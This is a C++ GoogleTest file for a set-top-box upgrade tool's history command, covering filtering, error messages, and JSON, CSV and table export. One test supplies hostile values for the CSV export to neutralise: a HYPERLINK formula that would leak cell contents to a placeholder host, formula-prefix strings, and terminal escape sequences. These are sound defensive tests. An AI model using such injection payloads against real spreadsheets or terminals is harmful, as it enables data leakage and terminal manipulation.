#include "cli/history_command.h"

#include <gtest/gtest.h>

#include <sys/stat.h>

#include <cstdio>
#include <filesystem>
#include <fstream>
#include <nlohmann/json.hpp>
#include <sstream>

#include "cli/record_export.h"
#include "records/record_database.h"
#include "tests/records/sample_records.h"
#include "tests/support/temp_dir.h"

namespace stbup {
namespace {

using testing::SampleRecord;

struct Result {
  int status;
  std::string out;
  std::string err;
};

Result History(const std::vector<std::string>& args) {
  CommandRegistry registry("stbup");
  AddHistoryCommand(registry);
  std::vector<std::string> full{"history"};
  full.insert(full.end(), args.begin(), args.end());
  std::ostringstream out;
  std::ostringstream err;
  const int status = registry.Execute(full, out, err);
  return {status, out.str(), err.str()};
}

std::vector<std::string> Lines(const std::string& text) {
  std::vector<std::string> lines;
  std::istringstream in(text);
  for (std::string line; std::getline(in, line);) lines.push_back(line);
  return lines;
}

TEST(ParseRecordDateTest, ADateNamesItsWholeUnitInUtc) {
  const struct {
    const char* text;
    const char* first;
    const char* after;
  } good[] = {
      {"2026-12-08", "2026-12-08T00:00:00.000Z", "2026-12-09T00:00:00.000Z"},
      {"2026-12-31", "2026-12-31T00:00:00.000Z", "2027-01-01T00:00:00.000Z"},
      {"2028-02-28", "2028-02-28T00:00:00.000Z", "2028-02-29T00:00:00.000Z"},
      {"2026-12-08T12:30", "2026-12-08T12:30:00.000Z", "2026-12-08T12:31:00.000Z"},
      {"2026-12-08 23:59:59", "2026-12-08T23:59:59.000Z", "2026-12-09T00:00:00.000Z"},
      {"2026-12-08T12:30:05.250Z", "2026-12-08T12:30:05.250Z", "2026-12-08T12:30:05.251Z"},
  };
  for (const auto& test : good) {
    const auto span = ParseRecordDate(test.text);
    ASSERT_TRUE(span.has_value()) << test.text;
    EXPECT_EQ(span->first, test.first) << test.text;
    EXPECT_EQ(span->after, test.after) << test.text;
  }
  for (const char* bad : {"", "2026-12", "2026-13-01", "2026-02-30", "26-12-08", "2026/12/08",
                          "2026-12-08T24:00", "2026-12-08T12", "2026-12-08T12:30:61",
                          "2026-12-08T12:30:05.25", "2026-12-08x", "yesterday"}) {
    EXPECT_FALSE(ParseRecordDate(bad).has_value()) << bad;
  }
}

class HistoryCommandTest : public ::testing::Test {
 protected:
  void SetUp() override {
    for (int k = 0; k < 4; ++k) {
      const Verdict verdicts[] = {Verdict::kUpgraded, Verdict::kRefused, Verdict::kUpgraded,
                                  Verdict::kPortGone};
      BoxRecord r = SampleRecord(k, verdicts[k]);
      r.started_at = "2026-12-0" + std::to_string(5 + k) + "T08:15:00.000Z";
      r.port = k == 3 ? "COM2" : "/dev/ttyUSB0";
      if (k == 1) r.box_model = "ZZ-9";
      records.push_back(r);
    }
    // What a hostile box can put into a record: separators, quotes, line
    // ends, control bytes and bytes beyond ASCII.
    records[3].box_model = "A,\"B\"\x1b[2J\xC3\xA9";
    records[3].log_tail = "0005 Block Retry\nCOM2 has gone away, \"really\"";
    RecordDatabase(path, RecordDatabase::Mode::kWrite).Insert(records);
  }

  std::vector<std::string> Ids(const std::string& jsonl) {
    std::vector<std::string> ids;
    for (const std::string& line : Lines(jsonl)) {
      ids.push_back(nlohmann::json::parse(line).at("record_id").get<std::string>());
    }
    return ids;
  }
  std::string Id(int k) { return records[static_cast<std::size_t>(k)].record_id; }

  TempDir dir;
  const std::string path = dir.PathOf("records.sqlite3");
  std::vector<BoxRecord> records;
};

TEST_F(HistoryCommandTest, FiltersSelectByDayPortModelAndVerdict) {
  const struct {
    std::vector<std::string> args;
    std::vector<int> expected;
  } cases[] = {
      {{}, {0, 1, 2, 3}},
      {{"--since", "2026-12-06"}, {1, 2, 3}},
      {{"--until", "2026-12-06"}, {0, 1}},  // the whole day
      {{"--since", "2026-12-06", "--until", "2026-12-07"}, {1, 2}},
      {{"--since", "2026-12-06T08:15:01"}, {2, 3}},
      {{"--port", "COM2"}, {3}},
      {{"--model", "ZZ-9"}, {1}},
      {{"--model", "MX1"}, {0, 1, 2, 3}},  // the image's model too
      {{"--verdict", "upgraded"}, {0, 2}},
      {{"--verdict", "port_gone", "--port", "/dev/ttyUSB0"}, {}},
  };
  for (const auto& test : cases) {
    std::vector<std::string> args{"--records", path, "--json"};
    args.insert(args.end(), test.args.begin(), test.args.end());
    const Result result = History(args);
    SCOPED_TRACE(::testing::PrintToString(test.args));
    EXPECT_EQ(result.status, 0) << result.err;
    std::vector<std::string> expected;
    for (const int k : test.expected) expected.push_back(Id(k));
    EXPECT_EQ(Ids(result.out), expected);
  }
}

TEST_F(HistoryCommandTest, UsageErrorsAndAMissingFile) {
  const struct {
    std::vector<std::string> args;
    int status;
    const char* err;
  } cases[] = {
      {{"--since", "12/08/2026"},
       2,
       "stbup: --since: not a date (YYYY-MM-DD[THH:MM[:SS]], UTC): 12/08/2026\n"},
      {{"--until", "tomorrow"},
       2,
       "stbup: --until: not a date (YYYY-MM-DD[THH:MM[:SS]], UTC): tomorrow\n"},
      {{"--verdict", "ok"},
       2,
       "stbup: --verdict: unknown verdict ok (one of upgraded, refused, failed, restarted, "
       "port_gone, timeout, success_after_failure, interrupted, accepted)\n"},
  };
  for (const auto& test : cases) {
    std::vector<std::string> args{"--records", path};
    args.insert(args.end(), test.args.begin(), test.args.end());
    const Result result = History(args);
    EXPECT_EQ(result.status, test.status);
    EXPECT_EQ(result.err, test.err);
    EXPECT_EQ(result.out, "");
  }
  EXPECT_EQ(History({"--records", path, "--json", "--csv"}).status, 2);

  const std::string missing = dir.PathOf("none.sqlite3");
  const Result none = History({"--records", missing});
  EXPECT_EQ(none.status, 0);
  EXPECT_EQ(none.err, "stbup: no records yet (" + missing + ")\n");
  EXPECT_FALSE(std::filesystem::exists(missing));  // reading creates nothing

  const std::string corrupt = dir.WriteFile("corrupt.sqlite3", std::string(4096, 'x'));
  const Result broken = History({"--records", corrupt, "--csv"});
  EXPECT_EQ(broken.status, 1);
  EXPECT_EQ(broken.err.rfind("stbup: records: " + corrupt + ": ", 0), 0u) << broken.err;
  EXPECT_EQ(broken.out, "");  // not even the header

  // Nothing matches: JSON Lines says nothing, CSV its header alone.
  EXPECT_EQ(History({"--records", path, "--port", "COM9"}).out, "");
  EXPECT_EQ(History({"--records", path, "--port", "COM9", "--csv"}).out.rfind("record_id,", 0), 0u);
  EXPECT_EQ(Lines(History({"--records", path, "--port", "COM9", "--csv"}).out).size(), 1u);
}

TEST_F(HistoryCommandTest, JsonLinesWhenNotATerminalATableOnOne) {
  // Not a terminal (as under ctest) and no flag: JSON Lines, every field.
  const Result piped = History({"--records", path, "--verdict", "refused"});
  EXPECT_EQ(piped.out,
            R"({"record_id":"00000000-0000-4000-8000-000000000001",)"
            R"("started_at":"2026-12-06T08:15:00.000Z","ended_at":"2026-12-08T12:01:00.500Z",)"
            R"("station":"bench-3","front_end":"upgrade","port":"/dev/ttyUSB0",)"
            R"("loader_kind":"5518","loader_version":"0217","flash_size":1,"flash_chip":"2782",)"
            R"("box_model":"ZZ-9","box_hw":"01.02.03","box_sw":"01.00.00",)"
            R"("image_path":"/srv/images/mx1.bin","image_size":786533,"image_sha256":null,)"
            R"("image_model":"MX1","image_hw":"01.02.03","image_sw":"04.05.06",)"
            R"("image_type":"CODE","blocks_sent":768,"blocks_retried":1,"seconds":13.5,)"
            R"("verdict":"refused","exit_status":5,"log_tail":"",)"
            R"("operator_name":null,"work_order":null})"
            "\n");

  HistoryOptions options;
  options.records_file = path;
  options.out_is_terminal = true;
  std::ostringstream out, err;
  CommandIo io{out, err};
  EXPECT_EQ(RunHistory(options, io), 0);
  EXPECT_EQ(
      out.str(),
      "STARTED (UTC)        STATION  PORT          BOX            H/W       S/W       "
      "IMAGE         TYPE  BLOCKS  RETRIES  SECONDS  VERDICT\n"
      "2026-12-05 08:15:00  bench-3  /dev/ttyUSB0  MX1            01.02.03  01.00.00  "
      "MX1 04.05.06  CODE  768     0        12.5     upgraded\n"
      "2026-12-06 08:15:00  bench-3  /dev/ttyUSB0  ZZ-9           01.02.03  01.00.00  "
      "MX1 04.05.06  CODE  768     1        13.5     refused\n"
      "2026-12-07 08:15:00  bench-3  /dev/ttyUSB0  MX1            01.02.03  01.00.00  "
      "MX1 04.05.06  CODE  768     2        14.5     upgraded\n"
      "2026-12-08 08:15:00  bench-3  COM2          A,\"B\"\\x1B[2J\xC3\xA9  01.02.03  01.00.00  "
      "MX1 04.05.06  CODE  768     0        15.5     port_gone\n"
      "4 boxes\n");
}

TEST_F(HistoryCommandTest, CsvQuotesWhatNeedsIt) {
  const Result csv = History({"--records", path, "--csv", "--port", "COM2"});
  EXPECT_EQ(csv.status, 0);
  const std::vector<std::string> lines = Lines(csv.out);
  ASSERT_EQ(lines.size(), 2u);  // the header, and the record on one line
  EXPECT_EQ(lines[0],
            "record_id,started_at,ended_at,station,front_end,port,loader_kind,loader_version,"
            "flash_size,flash_chip,box_model,box_hw,box_sw,image_path,image_size,image_sha256,"
            "image_model,image_hw,image_sw,image_type,blocks_sent,blocks_retried,seconds,"
            "verdict,exit_status,log_tail,operator_name,work_order");
  EXPECT_EQ(lines[1],
            "00000000-0000-4000-8000-000000000003,2026-12-08T08:15:00.000Z,"
            "2026-12-08T12:01:00.500Z,bench-3,upgrade,COM2,5518,0217,1,2782,"
            "\"A,\"\"B\"\"\\x1B[2J\xC3\xA9\",01.02.03,01.00.00,/srv/images/mx1.bin,786533,,MX1,"
            "01.02.03,04.05.06,CODE,768,0,15.500,port_gone,7,"
            "\"0005 Block Retry\\x0ACOM2 has gone away, \"\"really\"\"\",,");
}

// What a box calls itself must never become a spreadsheet formula, nor
// reach a terminal as a control sequence, whichever field it lands in.
TEST_F(HistoryCommandTest, CsvDefendsCellsAgainstFormulasAndControlCharacters) {
  const struct {
    const char* model;
    const char* cell;
  } cases[] = {
      {"=HYPERLINK(\"http://x/?\"&A1;\"click\")",
       "\"'=HYPERLINK(\"\"http://x/?\"\"&A1;\"\"click\"\")\""},
      {"+1+1", "'+1+1"},
      {"-2+3", "'-2+3"},
      {"@SUM(A1)", "'@SUM(A1)"},
      {"\t=1", "'\\x09=1"},
      {"\r=1", "'\\x0D=1"},
      {"a=b", "a=b"},    // only the first character counts
      {"MX-1", "MX-1"},  // an ordinary name stays as it is
      {"\x1b]0;owned\x07", "\\x1B]0;owned\\x07"},
      {"\xC2\x9B"
       "2J",
       "\\x9B2J"},  // C1, as a record holds it
      {"\n", "\\x0A"},
  };
  std::vector<BoxRecord> hostile;
  for (std::size_t k = 0; k < std::size(cases); ++k) {
    BoxRecord r = SampleRecord(100 + static_cast<int>(k), Verdict::kUpgraded);
    r.port = "COM7";
    r.box_model = cases[k].model;
    r.log_tail = cases[k].model;
    hostile.push_back(r);
  }
  RecordDatabase(path, RecordDatabase::Mode::kWrite).Insert(hostile);
  const Result csv = History({"--records", path, "--csv", "--port", "COM7"});
  ASSERT_EQ(csv.status, 0) << csv.err;
  const std::vector<std::string> lines = Lines(csv.out);
  ASSERT_EQ(lines.size(), std::size(cases) + 1);
  for (std::size_t k = 0; k < std::size(cases); ++k) {
    SCOPED_TRACE(cases[k].model);
    // box_model is the 11th field, log_tail the last but the operator and order.
    EXPECT_NE(lines[k + 1].find(std::string(",") + cases[k].cell + ",01.02.03,"), std::string::npos)
        << lines[k + 1];
    EXPECT_TRUE(lines[k + 1].ends_with(std::string(",") + cases[k].cell + ",,")) << lines[k + 1];
  }
}

TEST_F(HistoryCommandTest, RefusesWhatIsNotARecordsFileWithoutWaiting) {
  const std::string fifo = dir.PathOf("fifo.sqlite3");
  ASSERT_EQ(::mkfifo(fifo.c_str(), 0600), 0);
  const std::string folder = dir.PathOf("folder.sqlite3");
  std::filesystem::create_directory(folder);
  const std::string loop = dir.PathOf("loop.sqlite3");
  std::filesystem::create_symlink(loop, loop);
  const std::string text = dir.WriteFile("notes.sqlite3", "boxes: 3\n");
  const std::string dangling = dir.PathOf("dangling.sqlite3");
  std::filesystem::create_symlink(dir.PathOf("gone.sqlite3"), dangling);
  const std::string empty = dir.WriteFile("empty.sqlite3", "");
  const struct {
    std::string file;
    int status;
    std::string err;
  } cases[] = {
      {fifo, 1, "stbup: records: " + fifo + ": not a records file: a FIFO\n"},
      {folder, 1, "stbup: records: " + folder + ": not a records file: a folder\n"},
      {loop, 1,
       "stbup: records: " + loop + ": cannot be read: Too many levels of symbolic links\n"},
      {text, 1, "stbup: records: " + text + ": not a records file: not an SQLite database\n"},
      {dangling, 0, "stbup: no records yet (" + dangling + ")\n"},
      {empty, 0, ""},
  };
  for (const auto& test : cases) {
    for (const char* shape : {"--json", "--csv"}) {
      SCOPED_TRACE(test.file + " " + shape);
      const Result result = History({"--records", test.file, shape});
      EXPECT_EQ(result.status, test.status);
      EXPECT_EQ(result.err, test.err);
    }
  }
}

TEST_F(HistoryCommandTest, TableReadsTheRecordsTwiceAndMatchesTheWholeTable) {
  // Widths set by the last record: the first pass must have seen it.
  BoxRecord wide = SampleRecord(50, Verdict::kUpgraded);
  wide.started_at = "2026-12-09T00:00:00.000Z";
  wide.port = "/dev/serial/by-id/usb-FTDI_a_very_long_adapter_name-if00";
  RecordDatabase(path, RecordDatabase::Mode::kWrite).Insert({wide});
  records.push_back(wide);
  HistoryOptions options;
  options.records_file = path;
  options.out_is_terminal = true;
  std::ostringstream out, err;
  CommandIo io{out, err};
  EXPECT_EQ(RunHistory(options, io), 0);
  std::ostringstream whole;
  WriteRecordsTable(records, whole);
  EXPECT_EQ(out.str(), whole.str());
  EXPECT_TRUE(out.str().ends_with("\n5 boxes\n"));
}

// Python's own csv and json modules read both exports back to the same
// records, field for field.
TEST_F(HistoryCommandTest, PythonReadsBothExportsAlike) {
  const Result csv = History({"--records", path, "--csv"});
  const Result json = History({"--records", path, "--json"});
  const std::string csv_path = dir.WriteFile("records.csv", csv.out);
  const std::string json_path = dir.WriteFile("records.jsonl", json.out);
  const std::string script = dir.WriteFile("check.py", R"(
import csv, json, sys
with open(sys.argv[1], newline="", encoding="utf-8") as f:
    rows = list(csv.DictReader(f))
with open(sys.argv[2], encoding="utf-8") as f:
    objects = [json.loads(line) for line in f]
assert len(rows) == len(objects), (len(rows), len(objects))
for row, obj in zip(rows, objects):
    assert list(row) == list(obj), (list(row), list(obj))
    for name, value in obj.items():
        if value is None:
            want = ""
        elif isinstance(value, float):
            want = "%.3f" % value
        else:
            want = str(value)
        if want[:1] in ("=", "+", "-", "@", "\\t", "\\r"):
            want = "'" + want
        want = "".join("\\x%02X" % ord(c) if ord(c) < 0x20 or 0x7F <= ord(c) <= 0x9F else c
                       for c in want)
        assert row[name] == want, (name, row[name], want)
print(len(rows), json.dumps(objects[3]["box_model"]), json.dumps(objects[3]["log_tail"]))
)");
  const std::string out_path = dir.PathOf("python.out");
  const std::string command =
      "python3 " + script + " " + csv_path + " " + json_path + " > " + out_path + " 2>&1";
  const int status = std::system(command.c_str());
  std::ifstream in(out_path);
  const std::string said((std::istreambuf_iterator<char>(in)), std::istreambuf_iterator<char>());
  EXPECT_EQ(status, 0) << said;
  EXPECT_EQ(said,
            "4 \"A,\\\"B\\\"\\u001b[2J\\u00e9\" \"0005 Block Retry\\nCOM2 has gone away, "
            "\\\"really\\\"\"\n");
}

}  // namespace
}  // namespace stbup
